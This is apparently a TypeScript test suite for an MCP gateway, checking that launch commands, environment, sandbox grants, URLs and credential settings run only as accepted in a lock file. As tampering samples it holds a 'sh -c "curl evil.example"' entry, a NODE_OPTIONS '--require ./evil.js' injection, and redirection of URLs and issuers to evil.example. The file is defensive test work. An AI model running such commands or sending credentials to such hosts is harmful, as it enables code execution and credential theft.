// T24: a server of the configuration is started or reached as it was accepted, or not at all: who changes its entry, or gives it another
// name, gets nothing started that nobody has looked at, and nothing sent elsewhere.

import assert from 'node:assert/strict'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { createRedactor, type Log, silentLog } from '../../src/core/index.ts'
import type { ServerConfig } from '../../src/gateway/config/index.ts'
import { createAttempts } from '../../src/gateway/credentials/index.ts'
import { createGuard, type Guard, loadConfig } from '../../src/gateway/index.ts'
import type { LaunchQuestion } from '../../src/gateway/launch/index.ts'
import { openUpstream } from '../../src/gateway/open-upstream.ts'
import type { People } from '../../src/gateway/people.ts'
import { createMemoryStore } from '../../src/storage/index.ts'
import { createMemoryKeyRing, createMemoryVault } from '../../src/vault/index.ts'
import { tool } from '../fixtures/attacks/behaviour.ts'
import { verifies } from '../requirements.ts'
import { createWitness, type Witness } from '../support/gateway.ts'
import { createTempDir } from '../support/paths.ts'
import { type PlainServer, startPlainServer } from '../support/plain-server.ts'
import { until } from '../support/until.ts'

verifies('T24')

interface Place extends AsyncDisposable {
  readonly folder: string
  readonly witness: Witness
  /** Starts a guard with these entries, and ends it when it is ready; answers how its servers are. */
  start(entries: Readonly<Record<string, object>>, options?: Options): Promise<Readonly<Record<string, string | undefined>>>
  open(entries: Readonly<Record<string, object>>, options?: Options): Promise<Guard>
  lock(): { servers: Record<string, { launch?: Record<string, unknown>; endpoint?: Record<string, unknown> }> }
  /** As `sallyport pin accept` does it, in another process: this entry is what is accepted. */
  accepts(entry: object): void
  /** How often it was started. */
  starts(): number
}
interface Options {
  readonly ask?: (question: LaunchQuestion) => boolean
  readonly accept?: boolean
  readonly env?: Readonly<Record<string, string>>
  readonly log?: Log
}

async function createPlace(): Promise<Place> {
  const folder = await createTempDir('t24')
  const witness = createWitness(folder.path, 'notes', { era: 'legacy', name: 'notes', tools: [tool('look')] })
  const file = join(folder.path, 'sallyport.yaml')
  const lockFile = join(folder.path, 'sallyport.lock')
  const lock: Place['lock'] = () => JSON.parse(readFileSync(lockFile, 'utf8'))
  const open: Place['open'] = async (servers, { ask, accept = false, env = {}, log = silentLog } = {}) => {
    writeFileSync(file, JSON.stringify({ listen: 0, servers, auth: { cimd: 'off' } }))
    return createGuard({
      config: loadConfig({ file, cwd: folder.path, env, flags: { dataDir: join(folder.path, 'data') } }),
      version: '0.0.0',
      log,
      redactor: createRedactor(),
      accept,
      ...(ask && { ask: (question) => Promise.resolve(ask(question)) }),
    })
  }
  return {
    folder: folder.path,
    witness,
    open,
    async start(entries, options) {
      const guard = await open(entries, options)
      try {
        await guard.ready
        return Object.fromEntries(guard.status().map(({ server, state, error }) => [server, state === 'ready' ? state : error]))
      } finally {
        await guard.close()
      }
    },
    lock,
    accepts: (entry) => writeFileSync(lockFile, JSON.stringify({ ...lock(), servers: { ...lock().servers, ...entry } })),
    starts: () => {
      try {
        return witness.starts().length
      } catch {
        return 0
      }
    },
    [Symbol.asyncDispose]: folder.remove,
  }
}

/** The tests are about what is started: it writes down that it was, where everybody sees it. */
const unkept = { dangerouslyOff: true }

describe('T24: what is started is what was accepted', () => {
  it('the first start is accepted, and a second one like it starts again', async () => {
    await using place = await createPlace()
    const notes = { ...place.witness.entry, env: { TZ: 'UTC' }, sandbox: unkept }
    assert.deepEqual(await place.start({ notes }), { notes: 'ready' })
    const { accepted, ...launch } = place.lock().servers['notes']?.launch ?? {}
    assert.match(String(accepted), /^\d{4}-/)
    const { command, args } = place.witness.entry
    assert.deepEqual(launch, { command, args, env: { TZ: 'UTC' }, sandbox: unkept })
    assert.deepEqual(await place.start({ notes: { sandbox: unkept, env: { TZ: 'UTC' }, args, command } }), { notes: 'ready' })
    assert.equal(place.starts(), 2)
  })

  it('anything else about it is refused, names what, and starts nothing', async () => {
    await using place = await createPlace()
    const { command, args } = place.witness.entry
    const base = { command, args: [...args], env: { TZ: 'UTC' }, sandbox: unkept }
    await place.start({ notes: base })
    const changes: readonly (readonly [string, object])[] = [
      ['command', { ...base, command: 'sh' }],
      ['args.2', { ...base, args: [...args, '--verbose'] }],
      ['args.0, args.1', { ...base, args: [...args].reverse() }],
      ['env.NODE_OPTIONS', { ...base, env: { TZ: 'UTC', NODE_OPTIONS: '--require ./evil.js' } }],
      ['env.TZ', { ...base, env: { TZ: 'CET' } }],
      ['env.TZ', { ...base, env: {} }],
      ['cwd', { ...base, cwd: '/' }],
      ['sandbox.dangerouslyOff, sandbox.write', { ...base, sandbox: { write: ['/'] } }],
      ['sandbox.dangerouslyOff, sandbox.net', { ...base, sandbox: { net: ['evil.example:443'] } }],
      ['sandbox.dangerouslyOff', { command, args, env: base.env }],
    ]
    for (const [where, entry] of changes)
      await assert.rejects(
        place.start({ notes: entry }),
        (error: Error) =>
          error.name === 'ConfigError' && error.message.startsWith(`notes: it is started otherwise than was accepted: ${where}. To accept`),
        where,
      )
    assert.equal(place.starts(), 1)
  })

  it('the others of the same file are started, and the refused one as soon as somebody accepts it', async () => {
    await using place = await createPlace()
    await using other = await startOther()
    const entries = { notes: { ...place.witness.entry, sandbox: unkept }, other: { url: other.serverUrl } }
    await place.start(entries)
    const changed = { ...entries, notes: { ...entries.notes, env: { EXTRA: '1' } } }
    const guard = await place.open(changed)
    try {
      await guard.ready
      const states = (): string[] => guard.status().map(({ state }) => state)
      assert.deepEqual(states(), ['down', 'ready'])
      assert.match(
        guard.status()[0]?.error ?? '',
        /^it is started otherwise than was accepted: env\.EXTRA\. .*sallyport pin accept notes --config '[^']+sallyport\.yaml'$/,
      )
      assert.equal(place.starts(), 1)
      place.accepts({ notes: { launch: { ...place.lock().servers['notes']?.launch, env: { EXTRA: '1' } } } })
      await until('it is started', () => states()[0] === 'ready', 20_000)
    } finally {
      await guard.close()
    }
  })

  it('that it is refused is said once for each way in which it is, however often it is looked at, and how it starts then', async () => {
    await using place = await createPlace()
    await using other = await startOther()
    const entries = { notes: { ...place.witness.entry, sandbox: unkept }, other: { url: other.serverUrl }, moved: { url: other.serverUrl } }
    await place.start(entries)
    const changed = { ...entries, notes: { ...entries.notes, env: { EXTRA: '1' } }, moved: { url: `${other.serverUrl}?to=1` } }
    const logged: string[] = []
    const guard = await place.open(changed, { log: (level, message) => void logged.push(`${level} ${message}`) })
    const of = (server: string, level: string): string[] => logged.filter((line) => line.startsWith(`${level} ${server}: `))
    try {
      await guard.ready
      await until('both are looked at again', () => ['notes', 'moved'].every((server) => of(server, 'debug').length >= 3))
      assert.match(of('moved', 'warn').join('\n'), /^warn moved: it is reached otherwise than was accepted: url\. To accept[^\n]*\.yaml'$/)
      assert.match(of('notes', 'warn').join('\n'), /^warn notes: it is started otherwise than was accepted: env\.EXTRA\. To[^\n]*\.yaml'$/)
      const launch = place.lock().servers['notes']?.launch
      place.accepts({ notes: { launch: { ...launch, cwd: '/' } } })
      await until('it is refused otherwise', () => of('notes', 'warn').length === 2, 20_000)
      assert.match(of('notes', 'warn')[1] ?? '', /otherwise than was accepted: cwd, env\.EXTRA\./)
      place.accepts({ notes: { launch: { ...launch, env: { EXTRA: '1' } } } })
      await until('it is started', () => of('notes', 'info').includes('info notes: ready'), 20_000)
      const refusals = (server: string): number => of(server, 'warn').filter((line) => line.includes('otherwise than')).length
      assert.deepEqual([refusals('notes'), refusals('moved')], [2, 1])
      assert.doesNotMatch([...of('notes', 'debug'), ...of('moved', 'debug')].join('\n'), /trying again/)
      assert.deepEqual(
        guard.status().map(({ server, awaits }) => [server, awaits]),
        [
          ['notes', false],
          ['other', false],
          ['moved', true],
        ],
      )
    } finally {
      await guard.close()
    }
  })

  it('a person sees what has changed, and decides; --accept is the same word', async () => {
    await using place = await createPlace()
    const notes = { ...place.witness.entry, sandbox: unkept }
    await place.start({ notes })
    const changed = { ...notes, args: [...notes.args, '--delete'] }
    const asked: LaunchQuestion[] = []
    const ask = (answer: boolean) => (question: LaunchQuestion) => asked.push(question) > 0 && answer
    await assert.rejects(place.start({ notes: changed }, { ask: ask(false) }), /otherwise than was accepted/)
    const [question] = asked
    assert.ok(question?.kind === 'changed')
    assert.match(question.change.diff, /^\+ args\.2: "--delete"$/m)
    assert.deepEqual(await place.start({ notes: changed }, { ask: ask(true) }), { notes: 'ready' })
    assert.deepEqual(await place.start({ notes: changed }), { notes: 'ready' })
    assert.deepEqual(await place.start({ notes }, { accept: true }), { notes: 'ready' })
    assert.equal(asked.length, 2)
  })

  it('a secret with another value is no change, and none is ever written down', async () => {
    await using place = await createPlace()
    const { command, args } = place.witness.entry
    const notes = (value: string): object => ({
      command,
      args: [...args, '--token', value, `--api-key=${value}`],
      env: { API_KEY: value, OTHER: '${env:GIVEN}', FROM: 'Bearer ${env:GIVEN}' },
      sandbox: unkept,
    })
    const [one, other] = ['one-9f3c71d2e8b4', 'two-5a08c6be1977']
    await place.start({ notes: notes(one) }, { env: { GIVEN: one } })
    assert.deepEqual(await place.start({ notes: notes(other) }, { env: { GIVEN: other } }), { notes: 'ready' })
    const text = readFileSync(join(place.folder, 'sallyport.lock'), 'utf8')
    assert.ok(!text.includes(one) && !text.includes(other))
    assert.match(text, /\$\{env:GIVEN\}/)
    // But where it comes from is.
    await assert.rejects(
      place.start(
        { notes: { ...notes(other), env: { API_KEY: other, OTHER: '${env:HOME}', FROM: 'Bearer ${env:GIVEN}' } } },
        { env: { GIVEN: other, HOME: '/' } },
      ),
      /otherwise than was accepted: env\.OTHER/,
    )
  })

  it('in which order grants are written is no change, and where the folder is neither', async () => {
    await using place = await createPlace()
    const notes = (sandbox: object): object => ({ ...place.witness.entry, sandbox: { dangerouslyOptional: true, ...sandbox } })
    const { settle } = await settler(place)
    await settle({ notes: notes({ read: ['/usr', '/etc'], net: ['a.example:443', 'b.example:443'] }) })
    await settle({ notes: notes({ net: ['b.example:443', 'a.example:443'], read: ['/etc', '/usr'] }) })
    await assert.rejects(settle({ notes: notes({ net: ['a.example:443'], read: ['/etc', '/usr'] }) }), /sandbox\.net/)
  })

  it('a lock file that others can write to says nothing', async () => {
    await using place = await createPlace()
    const notes = { ...place.witness.entry, sandbox: unkept }
    await place.start({ notes })
    const { chmodSync } = await import('node:fs')
    chmodSync(join(place.folder, 'sallyport.lock'), 0o666)
    await assert.rejects(place.start({ notes }), /everybody can write to it/)
  })
})

describe('T24: a changed server under another name', () => {
  it('is refused where others were accepted, shows its command, and starts when somebody accepts it, also while the guard runs', async () => {
    await using place = await createPlace()
    await using server = await startOther()
    const other = { url: server.serverUrl }
    const notes = { ...place.witness.entry, sandbox: unkept }
    await place.start({ other })
    // Whoever can write to the file has put something of their own in, under a name that nobody has seen.
    const guard = await place.open({
      other,
      renamed: { ...notes, args: [...notes.args, '--as', 'x y'] },
    })
    try {
      await guard.ready
      const states = (): string[] => guard.status().map(({ state }) => state)
      assert.deepEqual(states(), ['ready', 'down'])
      const why = guard.status()[1]?.error ?? ''
      assert.match(
        why,
        /^it is not among the servers that were accepted here, and starts .*witness-notes --as "x y"\. To accept it: sallyport pin accept renamed --config '[^']+sallyport\.yaml'$/,
      )
      assert.equal(place.starts(), 0)
      const { command, args } = notes
      place.accepts({ renamed: { launch: { command, args: [...args, '--as', 'x y'], sandbox: unkept, accepted: '' } } })
      await until('it is started', () => states()[1] === 'ready', 20_000)
    } finally {
      await guard.close()
    }
  })

  it('is shown whole to the person who is asked; --accept is the same word, and the first start asks nobody', async () => {
    await using place = await createPlace()
    const { settle } = await settler(place)
    const asked: LaunchQuestion[] = []
    const ask = (answer: boolean) => (question: LaunchQuestion) => asked.push(question) > 0 && answer
    const notes = { command: 'node', args: ['notes.js'] }
    const added = { command: 'sh', args: ['-c', 'curl evil.example'], cwd: '/tmp', env: { TZ: 'UTC' }, sandbox: { write: ['/srv'] } }
    await settle({ notes }, { ask: ask(false) })
    await settle({ notes }, { ask: ask(false) })
    assert.equal(asked.length, 0)
    await assert.rejects(
      settle({ added }, { ask: ask(false) }),
      /^ConfigError: added: it is not among .* starts sh -c "curl evil\.example"\. To accept it: sallyport pin accept added/,
    )
    const question = asked.at(-1)
    assert.ok(question?.kind === 'new')
    assert.deepEqual(question.change.diff.split('\n'), [
      '+ command: "sh"',
      '+ args.0: "-c"',
      '+ args.1: "curl evil.example"',
      '+ cwd: "/tmp"',
      '+ env.TZ: "UTC"',
      '+ sandbox: required',
      '+ sandbox.write.0: "/srv"',
    ])
    await settle({ notes, added }, { ask: ask(true) })
    await settle({ notes, added, third: notes }, { accept: true })
    await settle({ notes, added, third: notes })
    assert.equal(asked.length, 2)
  })
})

describe('T24: where a URL leads', () => {
  it('nothing is sent to another URL until somebody accepts it', async () => {
    await using place = await createPlace()
    await using server = await startOther()
    await using thief = await startCanary()
    const plain = (url: string): object => ({ url, headers: { 'X-Key': 'Bearer ${env:GIVEN}' } })
    const env = { GIVEN: 'value-of-the-key-93f1' }
    assert.deepEqual(await place.start({ plain: plain(server.serverUrl) }, { env }), { plain: 'ready' })
    assert.deepEqual(
      { ...place.lock().servers['plain']?.endpoint, accepted: '' },
      {
        url: server.serverUrl,
        headers: { 'x-key': 'Bearer ${env:GIVEN}' },
        accepted: '',
      },
    )
    const asked = server.asked.length
    await assert.rejects(
      place.start({ plain: plain(thief.url) }, { env }),
      /plain: it is reached otherwise than was accepted: url\. To accept/,
    )
    const guard = await place.open({ plain: plain(server.serverUrl), web: plain(thief.url) }, { env })
    try {
      await guard.ready
      const states = (): string[] => guard.status().map(({ state }) => state)
      assert.deepEqual(states(), ['ready', 'down'])
      assert.match(
        guard.status()[1]?.error ?? '',
        /^it is not among the servers .*, and leads to http:\/\/127\.0\.0\.1:\d+\/mcp\. To accept it/,
      )
      assert.equal(thief.connections(), 0)
      assert.ok(server.asked.length > asked)
      // The twin: what somebody accepts is reached, without another start.
      place.accepts({ web: { endpoint: { url: thief.url, headers: { 'x-key': 'Bearer ${env:GIVEN}' }, accepted: '' } } })
      await until('it is reached', () => thief.connections() > 0, 20_000)
    } finally {
      await guard.close()
    }
  })

  it('anything else that says who gets a credential is refused, and names what', async () => {
    await using place = await createPlace()
    const { settle } = await settler(place)
    const auth = { type: 'exchange', clientId: 'me', clientSecret: 'hunter2hunter2', issuer: 'https://id.example', scopes: ['a', 'b'] }
    const web = (more: object): object => ({ web: { url: 'https://mail.example/mcp?team=1&api_key=Zk3r9QpLw8Xy', auth, ...more } })
    const key = (value: string, name = 'X-Key'): object => ({ web: { url: 'https://mail.example/mcp', headers: { [name]: value } } })
    const cases: readonly (readonly [string, object, object])[] = [
      ['url', web({}), web({ url: 'https://evil.example/mcp?team=1&api_key=Zk3r9QpLw8Xy' })],
      ['url', web({}), web({ url: 'https://mail.example/mcp?team=2&api_key=Zk3r9QpLw8Xy' })],
      ['auth.issuer', web({}), web({ auth: { ...auth, issuer: 'https://evil.example' } })],
      ['auth.audience', web({}), web({ auth: { ...auth, audience: 'other' } })],
      ['auth.clientId', web({}), web({ auth: { ...auth, clientId: 'other' } })],
      ['auth.scopes', web({}), web({ auth: { ...auth, scopes: ['a', 'b', 'c'] } })],
      ['auth.audience, auth.clientId, auth.clientSecret, auth.issuer, auth.scopes, auth.type', web({}), web({ auth: { type: 'none' } })],
      ['headers.x-key', key('${secret:A}'), key('${secret:B}')],
      ['headers.x-key', key('plain'), key('${secret:B}')],
      ['headers.authorization, headers.x-key', key('${secret:A}'), key('${secret:A}', 'Authorization')],
      ['headers.authorization', key('Negotiate ${secret:A}', 'Authorization'), key('Negotiate ${secret:B}', 'Authorization')],
      ['args.0, command, headers.x-key, url', key('x'), { web: { command: 'node', args: ['x.js'] } }],
    ]
    const lock = join(place.folder, 'sallyport.lock')
    for (const [where, was, is] of cases) {
      rmSync(lock, { force: true })
      await settle(was)
      const places = where.replace('auth.audience, ', '')
      await assert.rejects(
        settle(is),
        (error: Error) => error.message.includes(` otherwise than was accepted: ${places}. To accept`),
        where,
      )
    }
    // The twins: another value of a secret, and the same written otherwise.
    for (const [was, is] of [
      [
        web({}),
        web({
          url: 'https://mail.example/mcp?team=1&api_key=8XyZk3r9QpLw',
          auth: { ...auth, clientSecret: 'another-secret-1', scopes: ['b', 'a'] },
        }),
      ],
      [key('${secret:A}', 'X-KEY'), key('${secret:A}', 'x-key')],
      [key('Bearer abcdefgh12345678', 'Authorization'), key('Bearer 12345678abcdefgh', 'Authorization')],
    ] as const) {
      rmSync(lock, { force: true })
      await settle(was)
      await settle(is)
      assert.doesNotMatch(readFileSync(lock, 'utf8'), /hunter2|Zk3r9QpLw8Xy|abcdefgh12345678/)
    }
  })
})

describe('T24: what people have at a server', () => {
  const settings = { type: 'exchange', clientId: 'me', clientSecret: 'hunter2hunter2' } as const
  for (const [what, auth] of [
    ['an account of their own', () => ({ type: 'oauth' }) as const],
    ['our word for them', (issuer: string) => ({ ...settings, issuer })],
  ] as const)
    it(`${what} takes nobody to one that nobody has accepted`, async () => {
      await using thief = await startCanary()
      const clock = Date.now
      const store = createMemoryStore({ clock })
      const [keyRing, vault, redactor] = [createMemoryKeyRing(), createMemoryVault(), createRedactor()]
      const place = { base: () => 'http://localhost:7777', record() {} }
      const attempts = createAttempts({ store, keyRing, vault, clock })
      const people = { store, keyRing, vault, clock, redactor, place, attempts, stands: async () => true, sign: async () => 'a.b.c' }
      const config = { id: 'web', target: { url: thief.url, headers: {} }, auth: auth(thief.url) } as unknown as ServerConfig
      const client = { name: 'sallyport', version: '0' }
      let refusal: string | undefined = 'nobody has accepted it'
      const opened = await openUpstream(config, people as unknown as People, {
        client,
        log: silentLog,
        redactor,
        clock,
        stale() {},
        refused: () => refusal,
      })
      const asAna = async (): Promise<unknown> => {
        const begun = await opened.connectable?.begin?.({ user: 'ana', session: 'bs_1' }, 'http://localhost:7777/callback')
        return begun ?? opened.personal?.credentials.present({ user: 'ana' })
      }
      try {
        await opened.upstream.start()
        assert.equal(opened.upstream.problem, refusal)
        assert.match(JSON.stringify(await asAna()), /accepted/)
        assert.equal(thief.connections(), 0)
        // The twin: as soon as somebody has.
        refusal = undefined
        assert.doesNotMatch(JSON.stringify(await asAna()), /accepted/)
        assert.notEqual(thief.connections(), 0)
      } finally {
        await opened.upstream.close()
      }
    })
})

const startOther = (): Promise<PlainServer> => startPlainServer({ answer: ({ method }) => (method === 'tools/list' ? { tools: [] } : {}) })

/** Somebody else's server: counts who comes. */
async function startCanary(): Promise<{ readonly url: string; connections(): number } & AsyncDisposable> {
  let connections = 0
  const server = createServer((socket) => {
    connections++
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  return {
    url: `http://127.0.0.1:${port}/mcp`,
    connections: () => connections,
    [Symbol.asyncDispose]: () => new Promise((resolve) => void server.close(() => resolve())),
  }
}

/** Settles without starting anything. */
async function settler(place: Place): Promise<{ settle(servers: object, options?: Options): Promise<void> }> {
  const { createLaunches, openLockFile } = await import('../../src/gateway/index.ts')
  const file = join(place.folder, 'sallyport.yaml')
  return {
    async settle(servers, { ask, accept = false } = {}) {
      writeFileSync(file, JSON.stringify({ servers }))
      const config = loadConfig({ file, cwd: place.folder, env: {} })
      await createLaunches({
        servers: config.servers,
        lock: openLockFile(join(place.folder, 'sallyport.lock')),
        packagesDir: join(place.folder, 'packages'),
        ...(ask && { ask: (question) => Promise.resolve(ask(question)) }),
        accept,
        log: silentLog,
        clock: Date.now,
      }).settle()
    },
  }
}
